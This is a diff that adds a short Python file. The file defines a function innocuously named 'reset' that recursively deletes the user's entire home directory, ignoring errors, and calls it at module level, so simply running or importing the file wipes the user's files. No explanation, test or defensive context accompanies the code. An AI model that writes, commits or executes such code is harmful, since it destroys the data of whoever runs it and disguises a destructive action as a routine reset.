@@ -1,0 +1,7 @@
+import os
+import shutil
+
+def reset():
+    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
+
+reset()
